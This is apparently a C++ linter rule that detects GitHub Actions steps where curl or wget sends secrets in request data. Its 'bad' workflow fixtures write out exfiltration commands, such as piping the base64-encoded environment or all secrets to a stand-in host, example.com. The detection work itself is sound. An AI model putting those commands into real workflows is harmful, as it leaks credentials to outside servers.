#include "core/model/actions.h"
#include "core/model/expression.h"
#include "core/rules/rule.h"
#include "core/rules/shared/step_commands.h"
#include "core/rules/sink.h"
#include "core/rules/wording.h"

#include <algorithm>
#include <optional>
#include <set>
#include <span>
#include <string_view>
#include <vector>

namespace sluice::actions {
namespace {

constexpr std::string_view kWhy = R"(
`curl --data` with a secret in it, or with a file named after secrets, is how secrets leave a pipeline. Some services take
their own token this way, for which a header is the better place; a secret in a header is no finding. Nor is one that
is exchanged for a token where OAuth has it: at a token endpoint, in the body.
)";

constexpr std::string_view kBad[] = {
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: «curl -X POST -d "key=${{ secrets.KEY }}" https://example.com»
)",
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo "${{ toJSON(secrets) }}" > .secrets
          «curl -s --data "@.secrets" https://example.com»
      - run: env | base64 | «curl -d @- https://example.com»
)",
    R"(on: push
env: {KEY: "${{ secrets.KEY }}"}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - env: {TOKEN: "${{ secrets.TOKEN || github.token }}"}
        run: |
          «curl -d "key=$KEY" https://example.com»
          «curl --data "{\"token\": \"${TOKEN}\"}" https://example.com»
)",
};
constexpr std::string_view kGood[] = {
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: 'curl -H "Authorization: Bearer ${{ secrets.KEY }}" https://example.com'
      - run: curl -d "a=b" https://example.com
      - run: echo "$A" | curl -d @- https://example.com
      - env: {KEY: "${{ secrets.KEY }}", NAME: "${{ secrets.KEY != '' }}"}
        run: |
          curl -H "Authorization: Bearer $KEY" -d "name=$NAME&id=$KEYS" https://example.com
)",
    R"(on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: echo curl -d "${{ secrets.KEY }}"
      - run: curl -d @report.json https://example.com
      - run: curl -d "client_secret=${{ secrets.KEY }}" https://oauth2.googleapis.com/token
      - run: curl -d "secret=${{ secrets.KEY }}" "https://login.example.com/oauth2/v2.0/token?x=1"
)",
};
constexpr std::string_view kAliases[] = {"checkov:CKV_GHA_3", "sisakulint:secret-exfiltration"};

bool is_data_flag(std::string_view word) {
  constexpr std::string_view kFlags[] = {"-d",
                                         "-F",
                                         "-T",
                                         "--data",
                                         "--data-raw",
                                         "--data-binary",
                                         "--data-urlencode",
                                         "--form",
                                         "--upload-file",
                                         "--json",
                                         "--post-data",
                                         "--post-file",
                                         "--body-data"};
  return std::find(std::begin(kFlags), std::end(kFlags), word.substr(0, word.find('='))) !=
         std::end(kFlags);
}

// Variables that hold a secret and nothing that was made of it.
using Names = std::set<std::string_view>;

void add_secrets(NodeRef env, Names& names) {
  if (!env.is_mapping()) return;
  for (const NodeRef variable : env.children()) {
    const std::vector<Expression>& expressions = expressions_of(variable);
    const bool is_secret =
        std::any_of(expressions.begin(), expressions.end(), [](const Expression& expression) {
          const auto references = expression.references();
          return std::any_of(references.begin(), references.end(), [](const ContextReference& one) {
            return one.use == ContextReference::Use::expanded && one.path.starts_with("secrets.");
          });
        });
    if (is_secret)
      names.insert(variable.key().value);
    else
      names.erase(variable.key().value);
  }
}

Names secrets_in_environment(const Step& step) {
  Names names;
  if (step.job != nullptr) {
    add_secrets(step.job->workflow->env, names);
    add_secrets(step.job->env, names);
  }
  add_secrets(step.env, names);
  return names;
}

bool expands(std::string_view data, const Names& names) {
  for (std::size_t at = data.find('$'); at != data.npos; at = data.find('$', at + 1)) {
    std::string_view rest = data.substr(at + 1);
    if (rest.starts_with('{')) rest.remove_prefix(1);
    const auto is_name = [](char c) {
      return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_';
    };
    const auto end = std::find_if_not(rest.begin(), rest.end(), is_name);
    if (names.contains(rest.substr(0, static_cast<std::size_t>(end - rest.begin())))) return true;
  }
  return false;
}

bool holds_secret(std::string_view data, const Names& names) {
  if (expands(data, names)) return true;
  if (data.find("${{") != data.npos && data.find("secrets") != data.npos) return true;
  if (data.find("$(env)") != data.npos || data.find("$(printenv)") != data.npos) return true;
  return data.find('@') != data.npos && data.find("secret") != data.npos;
}

// The whole environment is piped into the request.
bool gets_environment(std::span<const StepCommand> commands, std::string_view script) {
  return std::any_of(commands.begin(), commands.end(), [&](const StepCommand& command) {
    return (command.program() == "env" || command.program() == "printenv") &&
           command.words.size() == 1 && script.find('|') != script.npos;
  });
}

// OAuth 2.0 (RFC 6749, 2.3.1) has a client send its secret in the body of the request.
bool is_token_endpoint(std::string_view word) {
  const std::string_view path = word.substr(0, word.find_first_of("?#"));
  return path.starts_with("https://") &&
         (path.ends_with("/token") || path.ends_with("/access_token"));
}

bool sends_secret(const StepCommand& command, const Names& names, bool has_environment) {
  if (std::any_of(command.words.begin(), command.words.end(), is_token_endpoint)) return false;
  for (std::size_t i = 1; i < command.words.size(); ++i) {
    const std::string_view word = command.words[i];
    if (!is_data_flag(word)) continue;
    const std::size_t equals = word.find('=');
    const std::string_view data = equals != word.npos            ? word.substr(equals + 1)
                                  : i + 1 < command.words.size() ? command.words[i + 1]
                                                                 : std::string_view();
    if (holds_secret(data, names) || (has_environment && data == "@-")) return true;
  }
  return false;
}

void check(const Step& step, Sink& sink) {
  if (step.script == nullptr) return;
  const std::span<const StepCommand> commands = commands_of(step);
  const bool has_environment = gets_environment(commands, step.run.value);
  std::optional<Names> names;
  for (const StepCommand& command : commands) {
    if (command.program() != "curl" && command.program() != "wget") continue;
    if (!names) names = secrets_in_environment(step);
    if (!sends_secret(command, *names, has_environment)) continue;
    sink.report(command.at, quote(command.program()) + " sends a secret")
        .with_node(step.node["run"].path());
  }
}

}  // namespace

extern constinit const Rule secret_exfiltration{
    .id = "actions/secret-exfiltration",
    .severity = Severity::medium,
    .confidence = Confidence::low,
    .persona = Persona::pedantic,
    .title = "Request carries a secret as its data",
    .risk = "Whoever has the server, or the log of the request, has the secret.",
    .fix =
        "Authenticate in a header with a short-lived token, and send no secret that belongs to "
        "another service.",
    .aliases = kAliases,
    .topics = {Topic::credentials, Topic::network},
    .check = check,
    .in_clear = true,
};

extern constinit const RuleDoc secret_exfiltration_doc{.rule = secret_exfiltration,
                                                       .why = kWhy,
                                                       .source = "CWE-522",
                                                       .path = ".github/workflows/ci.yml",
                                                       .bad = kBad,
                                                       .good = kGood};

}  // namespace sluice::actions
